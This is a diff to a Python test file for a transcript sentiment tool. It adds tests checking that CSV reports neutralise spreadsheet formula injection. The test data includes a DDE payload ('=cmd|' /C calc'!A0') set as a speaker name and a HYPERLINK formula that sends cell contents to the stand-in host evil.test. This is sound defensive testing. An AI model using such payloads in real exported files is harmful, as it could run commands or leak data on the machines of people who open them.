@@ -1,7 +1,9 @@
-"""The HTML report: structure, escaping, no external resources, and a real render in headless Chromium."""
+"""The reports: HTML (structure, escaping, no external resources, a real render in headless Chromium) and CSV."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 import subprocess
@@ -15,9 +17,10 @@ from moodline.engine import Engine
 from moodline.three_way import ThreeWayScorer
 from moodline.transcripts import parse_transcript
 from moodline.transcripts.insights import analyse
-from moodline.transcripts.report import PALETTE, render_html, write_pngs
+from moodline.transcripts.report import CSV_COLUMNS, PALETTE, render_csv, render_html, write_pngs
 from tests.conftest import ROOT
-from tests.servers import binary
+from tests.servers import require_binary
+from tests.transcripts.conftest import HOSTILE_CALL
 
 SAMPLES = Path(__file__).parent / "samples"
 ARTIFACTS = ROOT / "test-artifacts"
@@ -56,9 +59,39 @@ def test_png_charts(insights, tmp_path):
         assert path.read_bytes()[:4] == b"\x89PNG"
 
 
+@pytest.fixture(scope="module")
+def hostile_insights() -> dict:
+    call = parse_transcript(HOSTILE_CALL, format="vtt", source="hostile.vtt")
+    return analyse(call, ThreeWayScorer(Engine.load()), window=2).to_dict()
+
+
+def test_csv_neutralises_formulas_from_speakers_and_words(hostile_insights):
+    rows = list(csv.DictReader(io.StringIO(render_csv(hostile_insights), newline="")))
+    assert list(rows[0]) == list(CSV_COLUMNS)
+    assert [row["speaker"] for row in rows] == ["'=cmd|' /C calc'!A0", "Dana Whitfield", "'@Sam", "Unknown"]
+    assert [row["text"] for row in rows] == [
+        "Thanks for joining, this went really well.",
+        "'-2+3 is what the invoice said, which is awful.",
+        "'+1 from me, great call.",
+        """'=HYPERLINK("http://evil.test/?q="&A1,"details"): see you all tomorrow.""",
+    ]
+    # Numbers moodline computed stay numbers, negative ones included.
+    for row, utterance in zip(rows, hostile_insights["utterances"], strict=True):
+        assert float(row["sentiment"]) == pytest.approx(utterance["sentiment"])
+        assert float(row["start"]) == utterance["start"] and int(row["position"]) == utterance["position"]
+    assert any(row["sentiment"].startswith("-") for row in rows)
+
+
+def test_raw_csv_keeps_speakers_and_words_as_they_were(hostile_insights):
+    rows = list(csv.DictReader(io.StringIO(render_csv(hostile_insights, raw_csv=True), newline="")))
+    assert [row["speaker"] for row in rows] == [u["speaker"] for u in hostile_insights["utterances"]]
+    assert [row["text"] for row in rows] == [u["text"] for u in hostile_insights["utterances"]]
+    assert rows[0]["speaker"] == "=cmd|' /C calc'!A0"
+
+
 @pytest.mark.integration
 def test_report_renders_in_headless_chromium():
-    chromium = binary("chromium")
+    chromium = require_binary("chromium", "chromium-browser")
     ARTIFACTS.mkdir(exist_ok=True)
     report, shot = ARTIFACTS / "zoom_customer_call.html", ARTIFACTS / "zoom_customer_call.png"
     shot.unlink(missing_ok=True)
